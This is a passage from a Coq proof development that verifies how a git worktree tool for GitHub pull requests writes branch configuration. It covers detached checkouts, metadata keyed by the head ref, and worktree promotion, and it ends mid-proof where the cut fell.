Lemma runQueue_log (c : Creator) (path : string) (pr : github.PullRequest)
    (opts : CheckoutOptions) (cmds : list (list string)) (m m' : Machine World)
    (r : option error) :
  runQueue c path pr opts cmds m = (r, m') ->
  exists ran rest,
    (cmds ++ (if RecurseSubmodules opts then submoduleCmds else []))
    ++ spec.metadataCmds path pr = ran ++ rest
    /\ gitlog m' = gitlog m ++ ran
    /\ (r = None -> rest = []).
Proof.
  unfold runQueue, bind. intros E.
  destruct (git.ExecuteCommands _ m) as [e1 m1] eqn:E1.
  apply ExecuteCommands_log in E1 as (ran & rest & Hq & Hl & Hr).
  destruct e1.
  { injection E as <- <-. exists ran, (rest ++ spec.metadataCmds path pr).
    rewrite Hq, <- List.app_assoc. repeat split; [exact Hl | discriminate]. }
  rewrite (Hr eq_refl), List.app_nil_r in Hq. subst ran.
  destruct (storePRMetadata c path pr m1) as [e2 m2] eqn:E2.
  apply storePRMetadata_log in E2 as (ran2 & rest2 & Hq2 & Hl2 & Hr2).
  exists ((cmds ++ (if RecurseSubmodules opts then submoduleCmds else [])) ++ ran2), rest2.
  rewrite Hq2, <- !List.app_assoc. split; [reflexivity|].
  unfold ret in E.
  destruct e2; injection E as <- <-;
    (split; [rewrite Hl2, Hl, <- !List.app_assoc; reflexivity|]);
    [discriminate | exact Hr2].
Qed.

End RunFacts.

Section CreateRunFacts.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma missing_batchFor (c : Creator) (pr : github.PullRequest) (baseRemote : git.Remote)
    (opts : CheckoutOptions) (path branch : string) (cmds : list (list string)) :
  cmdsForMissingRemote c pr baseRemote opts path branch = Ok cmds ->
  spec.batchFor opts branch cmds.
Proof.
  intros E. apply cmdsForMissingRemote_Ok in E as (_ & _ & _ & E). cbv zeta in E.
  unfold spec.batchFor. destruct (Detach opts).
  - subst cmds. repeat split; [intros kv [] | discriminate].
  - destruct E as [_ ->]. split; [discriminate|]. split.
    + rewrite !configWrites_app.
      replace (spec.configWrites [_; _]) with (@nil (string * string))
        by (destruct (Force opts); reflexivity).
      destruct (spec.pushable pr); cbn; intros kv Hin;
        repeat destruct Hin as [<-|Hin]; cbn; tauto.
    + intros _. exists ["worktree"; "add"; path; branch].
      split; [cbn; tauto|]. split; [reflexivity | cbn; tauto].
Qed.

Lemma existing_batchFor (c : Creator) (remote : git.Remote) (pr : github.PullRequest)
    (opts : CheckoutOptions) (path branch : string) (m m' : Machine World)
    (cmds : list (list string)) :
  cmdsForExistingRemote c remote pr opts path branch m = (Ok cmds, m') ->
  spec.batchFor opts branch cmds
  /\ exists probe,
       gitlog m' = gitlog m ++ probe
       /\ spec.configWrites probe = []
       /\ (Detach opts = true -> probe = []).
Proof.
  intros E. apply cmdsForExistingRemote_Ok in E as (_ & _ & E). cbv zeta in E.
  unfold spec.batchFor. destruct (Detach opts).
  - destruct E as [-> ->]. split.
    + repeat split; [intros kv [] | discriminate].
    + exists []. now rewrite List.app_nil_r.
  - destruct E as [-> ->]. split.
    + split; [discriminate|].
      destruct (fst (git.BranchExists branch m)); [destruct (Force opts)|]; split.
      * intros kv [].
      * intros _. exists ["worktree"; "add"; "--force"; path; branch].
        split; [cbn; tauto|]. split; [reflexivity | cbn; tauto].
      * intros kv [].
      * intros _. exists ["worktree"; "add"; path; branch].
        split; [cbn; tauto|]. split; [reflexivity | cbn; tauto].
      * cbn. intros kv Hin. repeat destruct Hin as [<-|Hin]; cbn; tauto.
      * intros _.
        exists ["worktree"; "add"; "-b"; branch; path;
                git.Name remote +:+ "/" +:+ github.Ref (github.Head pr)].
        split; [cbn; tauto|]. split; [reflexivity | cbn; tauto].
    + eexists. split; [apply BranchExists_log|]. split; [reflexivity | discriminate].
Qed.

Lemma existing_Err (c : Creator) (remote : git.Remote) (pr : github.PullRequest)
    (opts : CheckoutOptions) (path branch : string) (m m' : Machine World) (e : error) :
  cmdsForExistingRemote c remote pr opts path branch m = (Err e, m') -> m' = m.
Proof.
  unfold cmdsForExistingRemote.
  destruct (validate.BranchName _); [now intros [= _ <-]|].
  destruct (validate.BranchName _); [now intros [= _ <-]|].
  destruct (Detach opts); [discriminate|].
  unfold bind. destruct (git.BranchExists branch m) as [[] ?];
    [destruct (Force opts)|]; discriminate.
Qed.

(** Create either fails before it runs anything that writes, or
    synthesizes a batch for the chosen branch and goes on to run it. *)
Lemma Create_cases (c : Creator) (path : string) (pr : github.PullRequest)
    (opts : CheckoutOptions) (m m' : Machine World) (r : option error) :
  Create c path pr opts m = (r, m') ->
  (r <> None /\ m' = m)
  \/ exists cmds m1 probe,
       gitlog m1 = gitlog m ++ probe
       /\ spec.configWrites probe = []
       /\ (Detach opts = true -> probe = [])
       /\ spec.batchFor opts (spec.branchFor pr opts) cmds
       /\ runQueue c path pr opts cmds m1 = (r, m').
Proof.
  unfold Create. fold (spec.branchFor pr opts).
  destruct (findBaseRemote c) as [baseRemote|]; [|intros [= <- <-]; left; auto].
  destruct (if negb (String.eqb _ _) then findHeadRemote c pr else Some baseRemote)
    as [headRemote|].
  - unfold bind.
    destruct (cmdsForExistingRemote c headRemote pr opts path (spec.branchFor pr opts) m)
      as [[cmds|e] m1] eqn:E.
    + intros Hq. right. apply existing_batchFor in E as (Hb & probe & Hl & Hp & Hd).
      exists cmds, m1, probe. auto.
    + apply existing_Err in E as ->. intros [= <- <-]. left. auto.
  - destruct (cmdsForMissingRemote c pr baseRemote opts path (spec.branchFor pr opts))
      as [cmds|e] eqn:E.
    + intros Hq. right. exists cmds, m, []. rewrite List.app_nil_r.
      apply missing_batchFor in E. auto.
    + intros [= <- <-]. left. auto.
Qed.

Lemma configWrites_submodules (opts : CheckoutOptions) :
  spec.configWrites (if RecurseSubmodules opts then submoduleCmds else []) = [].
Proof. destruct (RecurseSubmodules opts); reflexivity. Qed.

Lemma trackingWrites_app (xs ys : list (list string)) :
  spec.trackingWrites (xs ++ ys) = spec.trackingWrites xs ++ spec.trackingWrites ys.
Proof. unfold spec.trackingWrites. now rewrite configWrites_app, List.filter_app. Qed.

Lemma trackingWrites_metadata (path : string) (pr : github.PullRequest) :
  spec.trackingWrites (spec.metadataCmds path pr) = [].
Proof.
  unfold spec.trackingWrites, spec.metadataCmds.
  rewrite !configWrites_setCmd. cbn [List.filter fst spec.configWrites omap].
  now rewrite trackingKey_prNumber, trackingKey_prTitle.
Qed.

(** C4, as amended.  With Detach, whatever the outcome, Create runs no
    command that writes tracking configuration; but when it succeeds, the
    configuration writes of the run are the number and the sanitized
    title of the pull request, under the head ref. *)
Theorem detach_writes_metadata_only (c : Creator) (path : string)
    (pr : github.PullRequest) (opts : CheckoutOptions) (m : Machine World) :
  Detach opts = true ->
  (forall r m', Create c path pr opts m = (r, m') ->
     spec.trackingWrites (spec.commandsRun m m') = [])
  /\ (forall m', Create c path pr opts m = (None, m') ->
        spec.configWrites (spec.commandsRun m m')
        = [ (spec.prNumberKey (github.Ref (github.Head pr)),
             strconv.Itoa (github.Number pr));
            (spec.prTitleKey (github.Ref (github.Head pr)),
             validate.SanitizeForGitConfig (github.Title pr)) ]).
Proof.
  intros HD.
  assert (Hrun : forall r m', Create c path pr opts m = (r, m') ->
    (r <> None /\ spec.commandsRun m m' = [])
    \/ exists cmds ran rest,
         spec.configWrites cmds = []
         /\ (cmds ++ (if RecurseSubmodules opts then submoduleCmds else []))
            ++ spec.metadataCmds path pr = ran ++ rest
         /\ spec.commandsRun m m' = ran
         /\ (r = None -> rest = [])).
  { intros r m' E.
    apply Create_cases in E as [[Hr ->] | (cmds & m1 & probe & Hl & _ & Hp & Hb & E)].
    - left. split; [exact Hr|]. apply commandsRun_app. now rewrite List.app_nil_r.
    - right. rewrite (Hp HD), List.app_nil_r in Hl.
      apply runQueue_log in E as (ran & rest & Hq & Hl' & Hr).
      exists cmds, ran, rest. split; [apply Hb, HD|]. split; [exact Hq|].
      split; [|exact Hr]. apply commandsRun_app. now rewrite Hl', Hl. }
  split.
  - intros r m' E.
    destruct (Hrun r m' E) as [[_ ->] | (cmds & ran & rest & Hc & Hq & -> & _)];
      [reflexivity|].
    apply (f_equal spec.trackingWrites) in Hq.
    rewrite !trackingWrites_app, trackingWrites_metadata in Hq.
    unfold spec.trackingWrites at 1 2 in Hq.
    rewrite Hc, configWrites_submodules in Hq. cbn in Hq.
    symmetry in Hq. now apply app_eq_nil in Hq as [-> _].
  - intros m' E.
    destruct (Hrun None m' E) as [[Hr _] | (cmds & ran & rest & Hc & Hq & -> & Hr)];
      [congruence|].
    rewrite (Hr eq_refl), List.app_nil_r in Hq. subst ran.
    now rewrite !configWrites_app, Hc, configWrites_submodules.
Qed.

End CreateRunFacts.

(** A detached checkout of pull request 42 in the simulated world. *)
Lemma detach_writes_metadata_only_witness :
  let m := sim.start (sim.repoWorld ∅) in
  worktree.Detach sim.detached = true
  /\ fst (worktree.Create sim.creator "/w/my-repo-pr42" sim.pr42 sim.detached m) = None
  /\ spec.configWrites
       (spec.commandsRun m
          (snd (worktree.Create sim.creator "/w/my-repo-pr42" sim.pr42 sim.detached m)))
     = [ ("branch.fix-parser.gh-worktree-pr-number", "42");
         ("branch.fix-parser.gh-worktree-pr-title", "Fix parser add tests") ].
Proof.
  intros m.
  assert (HD : worktree.Detach sim.detached = true) by reflexivity.
  assert (E : fst (worktree.Create sim.creator "/w/my-repo-pr42" sim.pr42 sim.detached m)
              = None) by (vm_compute; reflexivity).
  split; [exact HD|]. split; [exact E|].
  apply (proj2 (detach_writes_metadata_only sim.creator "/w/my-repo-pr42" sim.pr42
                  sim.detached m HD)).
  apply injective_projections; [exact E | reflexivity].
Defined.

(** C4 as it is claimed fails: the detached checkout of pull request 42
    writes the number of the pull request under its head ref. *)
Lemma detach_writes_pr_number :
  ~ spec.detachWritesNothing sim.creator "/w/my-repo-pr42" sim.pr42 sim.detached
      (sim.start (sim.repoWorld ∅)).
Proof.
  intros Hc.
  destruct (Hc eq_refl ("branch.fix-parser.gh-worktree-pr-number", "42")) as [_ Hm].
  - vm_compute. tauto.
  - vm_compute in Hm. discriminate.
Qed.

(** ** Metadata is keyed by the head ref (C10) *)

Section MetadataKeyFacts.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma differ_by_suffix (k1 k2 x : string) :
  HasSuffix k1 x = true -> HasSuffix k2 x = false -> String.eqb k1 k2 = false.
Proof. intros H1 H2. apply String.eqb_neq. congruence. Qed.

Lemma key_inj (a b last : string) :
  "branch." +:+ a +:+ last = "branch." +:+ b +:+ last -> a = b.
Proof. intros E. apply str_app_inv_head in E. now apply str_app_inv_tail in E. Qed.

(** No key a batch writes is a metadata key. *)
Lemma batch_key_not_prNumber (branch other key : string) :
  In key [spec.pushRemoteKey branch; spec.remoteKey branch; spec.mergeKey branch] ->
  String.eqb key (spec.prNumberKey other) = false.
Proof.
  intros Hin. rewrite String.eqb_sym. apply (differ_by_suffix _ _ "r").
  - unfold spec.prNumberKey. now rewrite HasSuffix_key by (unfold len; simpl; lia).
  - unfold spec.pushRemoteKey, spec.remoteKey, spec.mergeKey in Hin.
    repeat destruct Hin as [<-|Hin]; try destruct Hin;
      now rewrite HasSuffix_key by (unfold len; simpl; lia).
Qed.

Lemma batch_key_not_prTitle (branch other key : string) :
  In key [spec.pushRemoteKey branch; spec.remoteKey branch; spec.mergeKey branch] ->
  String.eqb key (spec.prTitleKey other) = false.
Proof.
  intros Hin. rewrite String.eqb_sym. apply (differ_by_suffix _ _ "le").
  - unfold spec.prTitleKey. now rewrite HasSuffix_key by (unfold len; simpl; lia).
  - unfold spec.pushRemoteKey, spec.remoteKey, spec.mergeKey in Hin.
    repeat destruct Hin as [<-|Hin]; try destruct Hin;
      now rewrite HasSuffix_key by (unfold len; simpl; lia).
Qed.

Lemma prTitle_not_prNumber (a b : string) :
  String.eqb (spec.prTitleKey a) (spec.prNumberKey b) = false.
Proof.
  rewrite String.eqb_sym. apply (differ_by_suffix _ _ "r").
  - unfold spec.prNumberKey. now rewrite HasSuffix_key by (unfold len; simpl; lia).
  - unfold spec.prTitleKey. now rewrite HasSuffix_key by (unfold len; simpl; lia).
Qed.

Lemma prNumber_not_prTitle (a b : string) :
  String.eqb (spec.prNumberKey a) (spec.prTitleKey b) = false.
Proof. rewrite String.eqb_sym. apply prTitle_not_prNumber. Qed.

Lemma prNumberKey_eqb (a b : string) :
  String.eqb (spec.prNumberKey a) (spec.prNumberKey b) = String.eqb a b.
Proof.
  destruct (String.eqb_spec a b) as [->|N]; [apply String.eqb_refl|].
  apply String.eqb_neq. intros E. now apply key_inj in E.
Qed.

Lemma prTitleKey_eqb (a b : string) :
  String.eqb (spec.prTitleKey a) (spec.prTitleKey b) = String.eqb a b.
Proof.
  destruct (String.eqb_spec a b) as [->|N]; [apply String.eqb_refl|].
  apply String.eqb_neq. intros E. now apply key_inj in E.
Qed.

Lemma valuesFor_other_keys (key : string) (cmds : list (list string)) :
  (forall kv, In kv (spec.configWrites cmds) -> String.eqb (fst kv) key = false) ->
  spec.valuesFor key cmds = [].
Proof.
  unfold spec.valuesFor. intros Hk.
  induction (spec.configWrites cmds) as [|kv kvs IH]; [reflexivity|].
  cbn [List.filter]. rewrite (Hk kv (or_introl eq_refl)).
  apply IH. intros kv' Hin. apply Hk. now right.
Qed.

(** C10. When the options name a branch other than the head ref of the
    pull request and Create succeeds, the number and the title of the pull
    request are written under [branch.<head ref>], and nothing is written
    to the metadata keys of the branch the worktree is created on (which,
    without Detach, is the branch of the options). *)
Theorem metadata_keyed_by_head_ref (c : Creator) (path : string)
    (pr : github.PullRequest) (opts : CheckoutOptions) (m m' : Machine World) :
  BranchName opts <> "" ->
  BranchName opts <> github.Ref (github.Head pr) ->
  Create c path pr opts m = (None, m') ->
  let run := spec.commandsRun m m' in
  let headRef := github.Ref (github.Head pr) in
  spec.valuesFor (spec.prNumberKey headRef) run = [strconv.Itoa (github.Number pr)]
  /\ spec.valuesFor (spec.prTitleKey headRef) run
     = [validate.SanitizeForGitConfig (github.Title pr)]
  /\ spec.valuesFor (spec.prNumberKey (BranchName opts)) run = []
  /\ spec.valuesFor (spec.prTitleKey (BranchName opts)) run = []
  /\ (Detach opts = false ->
      exists cmd, In cmd run /\ spec.addsWorktreeOn (BranchName opts) cmd).
Proof.
  intros Hne Hdiff E. cbv zeta.
  apply Create_cases in E as [[Hr _] | (cmds & m1 & probe & Hl & Hp & _ & Hb & E)];
    [congruence|].
  assert (Hbranch : spec.branchFor pr opts = BranchName opts).
  { unfold spec.branchFor. apply String.eqb_neq in Hne. now rewrite Hne. }
  rewrite Hbranch in Hb. destruct Hb as (_ & Hkeys & Hadd).
  apply runQueue_log in E as (ran & rest & Hq & Hl' & Hr).
  rewrite (Hr eq_refl), List.app_nil_r in Hq. subst ran.
  rewrite Hl, <- List.app_assoc in Hl'.
  rewrite (commandsRun_app _ _ _ Hl').
  assert (Hquiet : forall key,
    (forall k, In k [spec.pushRemoteKey (BranchName opts); spec.remoteKey (BranchName opts);
                     spec.mergeKey (BranchName opts)] -> String.eqb k key = false) ->
    spec.valuesFor key
      (probe ++ (cmds ++ (if RecurseSubmodules opts then submoduleCmds else []))
       ++ spec.metadataCmds path pr)
    = spec.valuesFor key (spec.metadataCmds path pr)).
  { intros key Hk. rewrite !valuesFor_app.
    rewrite (valuesFor_no_writes key probe Hp).
    rewrite (valuesFor_no_writes key _ (configWrites_submodules opts)).
    rewrite (valuesFor_other_keys key cmds); [reflexivity|].
    intros kv Hin. apply Hk, Hkeys, Hin. }
  apply String.eqb_neq in Hdiff. rewrite String.eqb_sym in Hdiff.
  repeat split.
  - rewrite Hquiet by (intros k; apply batch_key_not_prNumber).
    unfold spec.metadataCmds. rewrite !valuesFor_setCmd.
    now rewrite String.eqb_refl, prTitle_not_prNumber.
  - rewrite Hquiet by (intros k; apply batch_key_not_prTitle).
    unfold spec.metadataCmds. rewrite !valuesFor_setCmd.
    now rewrite String.eqb_refl, prNumber_not_prTitle.
  - rewrite Hquiet by (intros k; apply batch_key_not_prNumber).
    unfold spec.metadataCmds. rewrite !valuesFor_setCmd.
    now rewrite prNumberKey_eqb, Hdiff, prTitle_not_prNumber.
  - rewrite Hquiet by (intros k; apply batch_key_not_prTitle).
    unfold spec.metadataCmds. rewrite !valuesFor_setCmd.
    now rewrite prTitleKey_eqb, Hdiff, prNumber_not_prTitle.
  - intros HD. destruct (Hadd HD) as (cmd & Hin & Hcmd). exists cmd.
    split; [|exact Hcmd]. rewrite !in_app_iff. auto.
Qed.

End MetadataKeyFacts.

(** Pull request 43 (head ref tidy) checked out on the branch review. *)
Lemma metadata_keyed_by_head_ref_witness :
  let m := sim.start (sim.repoWorld ∅) in
  let m' := snd (worktree.Create sim.creator "/w/my-repo-pr43" sim.pr43 sim.renamed m) in
  fst (worktree.Create sim.creator "/w/my-repo-pr43" sim.pr43 sim.renamed m) = None
  /\ spec.valuesFor "branch.tidy.gh-worktree-pr-number" (spec.commandsRun m m') = ["43"]
  /\ spec.valuesFor "branch.tidy.gh-worktree-pr-title" (spec.commandsRun m m') = ["Tidy up"]
  /\ spec.valuesFor "branch.review.gh-worktree-pr-number" (spec.commandsRun m m') = []
  /\ spec.valuesFor "branch.review.gh-worktree-pr-title" (spec.commandsRun m m') = []
  /\ sim.config (world m') !! "branch.tidy.gh-worktree-pr-number" = Some "43"
  /\ sim.config (world m') !! "branch.review.gh-worktree-pr-number" = None.
Proof.
  intros m m'.
  assert (E : fst (worktree.Create sim.creator "/w/my-repo-pr43" sim.pr43 sim.renamed m)
              = None) by (vm_compute; reflexivity).
  split; [exact E|].
  assert (E' : worktree.Create sim.creator "/w/my-repo-pr43" sim.pr43 sim.renamed m
               = (None, m')) by (apply injective_projections; [exact E | reflexivity]).
  destruct (metadata_keyed_by_head_ref sim.creator "/w/my-repo-pr43" sim.pr43
              sim.renamed m m') as (H1 & H2 & H3 & H4 & _);
    [discriminate | discriminate | exact E' |].
  split; [exact H1|]. split; [exact H2|]. split; [exact H3|]. split; [exact H4|].
  split; vm_compute; reflexivity.
Defined.

(** ** Promotion (C5) *)

Section PromoteFacts.
Context {World : Type} `{System World}.
Import strings worktree.

(** Reading does not change the state of the run. *)
Lemma GetRoot_state (m : Machine World) : snd (git.GetRoot m) = m.
Proof.
  unfold git.GetRoot, bind, Output, ask, ret.
  destruct (git_Output _ (world m)); [|reflexivity].
  destruct (filepath.IsAbs _); [reflexivity|].
  destruct (os_Getwd (world m)); reflexivity.
Qed.

Lemma GetRoot_eq (m : Machine World) (root : string) :
  fst (git.GetRoot m) = Ok root -> git.GetRoot m = (Ok root, m).
Proof.
  intros E. apply injective_projections; [exact E | apply GetRoot_state].
Qed.

Lemma GetConfig_eq (path key : string) (m : Machine World) :
  git.GetConfig path key m
  = (match git_Output ["-C"; path; "config"; "--local"; key] (world m) with
     | Some output => Ok (TrimSpace output)
     | None => Err ExitError
     end, m).
Proof.
  unfold git.GetConfig, bind, Output, ret.
  destruct (git_Output _ (world m)); reflexivity.
Qed.

Lemma GetWorktreeType_state (branch : string) (m : Machine World) :
  snd (GetWorktreeType branch m) = m.
Proof.
  unfold GetWorktreeType, bind.
  pose proof (GetRoot_state m) as Hs.
  destruct (git.GetRoot m) as [[root|e] m1]; simpl in Hs; subst m1; [|reflexivity].
  rewrite GetConfig_eq.
  destruct (git_Output _ (world m)); [reflexivity|].
  cbv beta iota. rewrite GetConfig_eq.
  destruct (git_Output _ (world m)) as [out|]; [|reflexivity].
  destruct (negb (String.eqb (TrimSpace out) "")); reflexivity.
Qed.

Lemma GetWorktreeType_eq (branch : string) (m : Machine World) (r : result string) :
  fst (GetWorktreeType branch m) = r -> GetWorktreeType branch m = (r, m).
Proof.
  intros E. apply injective_projections; [exact E | apply GetWorktreeType_state].
Qed.

(** The type is read from the type key; without it, a PR-number key with
    a value that is not blank makes the type "pr". *)
Lemma GetWorktreeType_by_number (branch root value : string) (m : Machine World) :
  fst (git.GetRoot m) = Ok root ->
  spec.keyAbsent root (spec.typeKey branch) (world m) ->
  spec.keyHolds root (spec.prNumberKey branch) value (world m) ->
  value <> "" ->
  fst (GetWorktreeType branch m) = Ok "pr".
Proof.
  intros Hroot Habs (out & Hout & Hv) Hne.
  unfold GetWorktreeType, bind. rewrite (GetRoot_eq m root Hroot), GetConfig_eq.
  unfold spec.keyAbsent, spec.typeKey in Habs. rewrite Habs.
  cbv beta iota. rewrite GetConfig_eq.
  unfold spec.prNumberKey in Hout. rewrite Hout, Hv.
  apply String.eqb_neq in Hne. now rewrite Hne.
Qed.

Lemma GetWorktreeType_root (branch type : string) (m : Machine World) :
  fst (GetWorktreeType branch m) = Ok type ->
  exists root, fst (git.GetRoot m) = Ok root.
Proof.
  unfold GetWorktreeType, bind.
  destruct (git.GetRoot m) as [[root|e] m1]; [eauto | discriminate].
Qed.

Lemma SetConfig_eq (path key value : string) (m : Machine World) :
  git.SetConfig path key value m
  = (if fst (git_Run (spec.setCmd path key value) (world m)) then None else Some ExitError,
     {| world := snd (git_Run (spec.setCmd path key value) (world m));
        gitlog := gitlog m ++ [spec.setCmd path key value] |}).
Proof.
  unfold git.SetConfig, bind, Run, ret, spec.setCmd.
  destruct (git_Run _ (world m)) as [ok w]. reflexivity.
Qed.

(** A list of commands with one that fails does not run through. *)
Lemma runsOk_stops (before after : list (list string)) (args : list string) (w : World) :
  spec.runsOk before w = true ->
  fst (git_Run args (spec.worldAfter before w)) = false ->
  spec.runsOk (before ++ args :: after) w = false.
Proof.
  revert w. induction before as [|b before IH]; intros w;
    cbn [app spec.runsOk spec.worldAfter].
  - destruct (git_Run args w) as [ok w']. cbn [fst]. now intros _ ->.
  - destruct (git_Run b w) as [ok w']. cbn [snd]. destruct ok; [|discriminate].
    cbn [andb]. apply IH.
Qed.

(** PromoteToPR, once the git root is found: the three writes are run in
    order up to the first that fails. *)
Lemma PromoteToPR_outcome (branch title root : string) (n : Z) (m : Machine World) :
  fst (git.GetRoot m) = Ok root ->
  match PromoteToPR branch n title m with
  | (None, m') =>
      spec.runsOk (spec.promotionCmds root branch n title) (world m) = true
      /\ world m' = spec.worldAfter (spec.promotionCmds root branch n title) (world m)
      /\ gitlog m' = gitlog m ++ spec.promotionCmds root branch n title
  | (Some err, m') =>
      exists before args after,
        spec.promotionCmds root branch n title = before ++ args :: after
        /\ spec.runsOk before (world m) = true
        /\ fst (git_Run args (spec.worldAfter before (world m))) = false
        /\ err = spec.promotionFailure (length before)
        /\ world m' = spec.worldAfter (before ++ [args]) (world m)
        /\ gitlog m' = gitlog m ++ before ++ [args]
  end.
Proof.
  intros Hroot. unfold PromoteToPR, bind. rewrite (GetRoot_eq m root Hroot).
  fold (spec.typeKey branch) (spec.prNumberKey branch) (spec.prTitleKey branch).
  unfold spec.promotionCmds.
  set (c1 := spec.setCmd root (spec.typeKey branch) "pr").
  set (c2 := spec.setCmd root (spec.prNumberKey branch) (strconv.Itoa n)).
  set (c3 := spec.setCmd root (spec.prTitleKey branch) title).
  rewrite SetConfig_eq. fold c1. cbn [spec.runsOk spec.worldAfter].
  destruct (git_Run c1 (world m)) as [ok1 w1] eqn:E1. cbn [fst snd].
  destruct ok1; cbv beta iota.
  2: { exists [], c1, [c2; c3]. cbn [app length spec.runsOk spec.worldAfter].
       rewrite E1. repeat split. }
  rewrite SetConfig_eq. fold c2. cbn [world gitlog].
  destruct (git_Run c2 w1) as [ok2 w2] eqn:E2. cbn [fst snd andb].
  destruct ok2; cbv beta iota.
  2: { exists [c1], c2, [c3]. cbn [app length spec.runsOk spec.worldAfter].
       rewrite E1. cbn [fst snd andb]. rewrite E2.
       repeat split. now rewrite <- List.app_assoc. }
  rewrite SetConfig_eq. fold c3. cbn [world gitlog].
  destruct (git_Run c3 w2) as [ok3 w3] eqn:E3. cbn [fst snd andb].
  destruct ok3; cbv beta iota.
  2: { exists [c1; c2], c3, []. cbn [app length spec.runsOk spec.worldAfter].
       rewrite E1. cbn [fst snd andb]. rewrite E2. cbn [fst snd andb]. rewrite E3.
       repeat split. now rewrite <- !List.app_assoc. }
  unfold ret. repeat split. now rewrite <- !List.app_assoc.
Qed.

(** What promoteRun looks up before it writes.  When all of it is found,
    promoteRun is PromoteToPR for the number and the title found. *)
Lemma promoteRun_found (branch type : string) (prNumber number : Z)
    (repo : repository.Repository) (pr : github.PullRequest) (m : Machine World) :
  validate.BranchName branch = None ->
  fst (GetWorktreeType branch m) = Ok type ->
  type <> "pr" ->
  repository_Current (world m) = Some repo ->
  api_DefaultRESTClient (world m) = true ->
  spec.promotedNumber (world m) repo branch prNumber number ->
  client_Get_pull (spec.pullPath repo number) (world m) = Some pr ->
  cli.promoteRun branch prNumber m
  = (let '(err, m') := PromoteToPR branch number (github.Title pr) m in
     (match err with
      | Some err => Some (Wrap "failed to promote worktree" err)
      | None => None
      end, m')).
Proof.
  intros Hvalid Ht Htype Hrepo Hclient Hnum Hpull.
  apply GetWorktreeType_eq in Ht.
  unfold cli.promoteRun. rewrite Hvalid. unfold bind at 1. rewrite Ht.
  apply String.eqb_neq in Htype. rewrite Htype.
  unfold spec.pullPath in Hpull.
  destruct Hnum as [[Hnz ->] | (Hz & pr0 & Hpulls & ->)].
  - apply Z.eqb_neq in Hnz. rewrite Hnz.
    cbv beta iota zeta delta [bind ret ask].
    rewrite Hrepo. cbv beta iota zeta.
    rewrite Hclient. cbv beta iota zeta delta [negb].
    rewrite Hpull. cbv beta iota zeta.
    destruct (PromoteToPR branch prNumber (github.Title pr) m) as [[e|] m1]; reflexivity.
  - subst prNumber. unfold spec.pullsOfBranchPath in Hpulls.
    rewrite Z.eqb_refl.
    cbv beta iota zeta delta [bind ret ask].
    rewrite Hrepo. cbv beta iota zeta.
    rewrite Hclient. cbv beta iota zeta delta [negb].
    rewrite Hpulls. cbv beta iota zeta.
    rewrite Hrepo. cbv beta iota zeta.
    rewrite Hclient. cbv beta iota zeta.
    rewrite Hpull. cbv beta iota zeta.
    destruct (PromoteToPR branch (github.Number pr0) (github.Title pr) m) as [[e|] m1];
      reflexivity.
Qed.

(** With no number given, promoteRun wants exactly one open pull request
    of the branch. *)
Lemma promoteRun_not_one (branch type : string) (repo : repository.Repository)
    (prs : list github.PullRequest) (m : Machine World) :
  validate.BranchName branch = None ->
  fst (GetWorktreeType branch m) = Ok type ->
  type <> "pr" ->
  repository_Current (world m) = Some repo ->
  api_DefaultRESTClient (world m) = true ->
  client_Get_pulls (spec.pullsOfBranchPath repo branch) (world m) = Some prs ->
  (prs = [] ->
   cli.promoteRun branch 0 m
   = (Some (Errorf ("no open PR found for branch " +:+ branch
              +:+ ". Please create a PR first or specify the PR number")), m))
  /\ (2 <= length prs ->
      cli.promoteRun branch 0 m
      = (Some (Errorf ("multiple PRs found for branch " +:+ branch
                 +:+ ". Please specify the PR number")), m)).
Proof.
  intros Hvalid Ht Htype Hrepo Hclient Hpulls.
  apply GetWorktreeType_eq in Ht.
  apply String.eqb_neq in Htype.
  unfold spec.pullsOfBranchPath in Hpulls.
  split; intros Hprs;
    unfold cli.promoteRun; rewrite Hvalid; unfold bind at 1; rewrite Ht, Htype, Z.eqb_refl;
    cbv beta iota zeta delta [bind ret ask];
    rewrite Hrepo; cbv beta iota zeta;
    rewrite Hclient; cbv beta iota zeta delta [negb];
    rewrite Hpulls.
  - subst prs. reflexivity.
  - destruct prs as [|pr1 [|pr2 prs]]; cbn [length] in Hprs; [lia | lia |].
    reflexivity.
Qed.

(** Either everything promoteRun looks up is found, or it fails and
    leaves the state of the run as it is. *)
Lemma promoteRun_lookup (branch : string) (prNumber : Z) (m : Machine World) :
  (exists type repo number pr,
     validate.BranchName branch = None
     /\ fst (GetWorktreeType branch m) = Ok type
     /\ type <> "pr"
     /\ repository_Current (world m) = Some repo
     /\ api_DefaultRESTClient (world m) = true
     /\ spec.promotedNumber (world m) repo branch prNumber number
     /\ client_Get_pull (spec.pullPath repo number) (world m) = Some pr)
  \/ exists e, cli.promoteRun branch prNumber m = (Some e, m).
Proof.
  destruct (validate.BranchName branch) as [err|] eqn:Hvalid.
  { right. unfold cli.promoteRun. rewrite Hvalid. eexists. reflexivity. }
  destruct (fst (GetWorktreeType branch m)) as [type|err] eqn:Ht.
  2: { right. apply GetWorktreeType_eq in Ht.
       unfold cli.promoteRun. rewrite Hvalid. unfold bind at 1. rewrite Ht.
       eexists. reflexivity. }
  destruct (String.eqb_spec type "pr") as [->|Htype].
  { right. apply GetWorktreeType_eq in Ht.
    unfold cli.promoteRun. rewrite Hvalid. unfold bind at 1. rewrite Ht.
    eexists. reflexivity. }
  assert (Hfail : forall r : option error * Machine World,
            cli.promoteRun branch prNumber m = r ->
            (exists e, r = (Some e, m)) ->
            exists e, cli.promoteRun branch prNumber m = (Some e, m)).
  { intros r -> He. exact He. }
  pose proof Ht as Ht'. apply GetWorktreeType_eq in Ht'.
  pose proof Htype as Hneq. apply String.eqb_neq in Hneq.
  destruct (repository_Current (world m)) as [repo|] eqn:Hrepo.
  2: { right. unfold cli.promoteRun. rewrite Hvalid. unfold bind at 1. rewrite Ht', Hneq.
       destruct (prNumber =? 0)%Z; cbv beta iota zeta delta [bind ret ask];
         rewrite Hrepo; eexists; reflexivity. }
  destruct (api_DefaultRESTClient (world m)) eqn:Hclient.
  2: { right. unfold cli.promoteRun. rewrite Hvalid. unfold bind at 1. rewrite Ht', Hneq.
       destruct (prNumber =? 0)%Z; cbv beta iota zeta delta [bind ret ask];
         rewrite Hrepo; cbv beta iota zeta; rewrite Hclient; eexists; reflexivity. }
  assert (Hnumber : (exists number, spec.promotedNumber (world m) repo branch prNumber number)
                    \/ exists e, cli.promoteRun branch prNumber m = (Some e, m)).
  { destruct (Z.eqb_spec prNumber 0) as [->|Hnz].
    - destruct (client_Get_pulls (spec.pullsOfBranchPath repo branch) (world m))
